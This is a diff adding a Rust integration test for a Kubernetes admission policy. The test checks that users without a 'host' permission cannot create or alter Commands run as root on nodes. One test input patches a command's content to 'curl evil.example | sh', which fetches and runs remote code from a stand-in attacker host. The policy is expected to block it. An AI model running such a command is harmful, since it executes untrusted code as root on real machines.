@@ -12,7 +12,7 @@ use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, Role, RoleBinding};
 use kube::api::{DeleteParams, DynamicObject, Patch, PatchParams, PostParams};
 use kube::config::{KubeConfigOptions, Kubeconfig};
 use kube::{Api, Client, Config};
-use nodeops::api::{AgentInvocation, AgentUpgradeJob, AsyncCommand, Invoker, NodeAgent};
+use nodeops::api::{AgentInvocation, AgentUpgradeJob, AsyncCommand, Command, Invoker, NodeAgent};
 use serde_json::{Value, json};
 use support::{TestNamespace, install_crds, kubeconfig_path, kubectl, manifest, repo_root};
 
@@ -238,6 +238,99 @@ async fn host_mode_needs_the_host_verb() {
     let mut another = invoker("Host");
     another["metadata"]["name"] = json!("ivk2");
     try_create(&invokers, another).await.expect("host granted");
+}
+
+#[tokio::test]
+async fn a_command_that_runs_as_root_needs_the_host_verb_to_create_or_change() {
+    let ns = TestNamespace::new("adm-command").await;
+    install_crds(&ns.client).await;
+    install_policies();
+    let user = format!("dave-{}", ns.name);
+    grant(&ns, &user, "nodeops-edit").await;
+    let dave = client_as(&user).await;
+    let commands: Api<Command> = Api::namespaced(dave.clone(), &ns.name);
+    let command =
+        |name: &str, content: &str| manifest::<Command>(name, json!({"content": content}));
+    // The admin's Host-mode Invoker and AsyncCommand, whose Commands do not exist yet
+    // (they wait for them), and a Container-mode Invoker.
+    let admin_invokers: Api<Invoker> = ns.api();
+    let admin_runs: Api<AsyncCommand> = ns.api();
+    let mut host_invoker = invoker("Host");
+    host_invoker["spec"]["commandRef"] = json!("root-script");
+    let mut plain_invoker = invoker("Container");
+    plain_invoker["metadata"]["name"] = json!("plain");
+    plain_invoker["spec"]["commandRef"] = json!("plain-script");
+    for obj in [host_invoker, plain_invoker] {
+        let obj: Invoker = serde_json::from_value(obj).expect("invoker");
+        admin_invokers
+            .create(&PostParams::default(), &obj)
+            .await
+            .expect("the admin's Invoker");
+    }
+    let run: AsyncCommand = serde_json::from_value(manifest::<AsyncCommand>(
+        "root-run",
+        json!({"commandRef": "run-script", "nodeNames": ["node-0001"], "executionMode": "Host"}),
+    ))
+    .expect("run");
+    admin_runs
+        .create(&PostParams::default(), &run)
+        .await
+        .expect("the admin's AsyncCommand");
+
+    let message = until_refused(|| try_create(&commands, command("root-script", "id"))).await;
+    refused(
+        Err(message),
+        &[
+            &format!("user {user} may not create or change Command root-script"),
+            "Invoker ivk runs it in Host mode",
+            &format!(
+                "needs the verb host on commands.nodeops.io in namespace {}",
+                ns.name
+            ),
+        ],
+    );
+    refused(
+        try_create(&commands, command("run-script", "id")).await,
+        &["AsyncCommand root-run runs it in Host mode"],
+    );
+    try_create(&commands, command("plain-script", "id"))
+        .await
+        .expect("a Command run in Container mode only");
+
+    // The admin's Command: its labels stay free to change, its content does not.
+    let admin_commands: Api<Command> = ns.api();
+    let obj: Command = serde_json::from_value(command("root-script", "uptime")).expect("command");
+    admin_commands
+        .create(&PostParams::default(), &obj)
+        .await
+        .expect("the admin creates it");
+    commands
+        .patch(
+            "root-script",
+            &PatchParams::default(),
+            &Patch::Merge(&json!({"metadata": {"labels": {"team": "sre"}}})),
+        )
+        .await
+        .expect("a label is not root");
+    let changed = commands
+        .patch(
+            "root-script",
+            &PatchParams::default(),
+            &Patch::Merge(&json!({"spec": {"content": "curl evil.example | sh"}})),
+        )
+        .await;
+    match changed {
+        Err(kube::Error::Api(e)) => {
+            assert!(
+                e.message.contains("Invoker ivk runs it in Host mode"),
+                "{e:?}"
+            )
+        }
+        other => panic!("changing a Command run as root without host: {other:?}"),
+    }
+
+    grant(&ns, &user, "nodeops-host").await;
+    until_accepted(|| try_create(&commands, command("run-script", "id"))).await;
 }
 
 #[tokio::test]
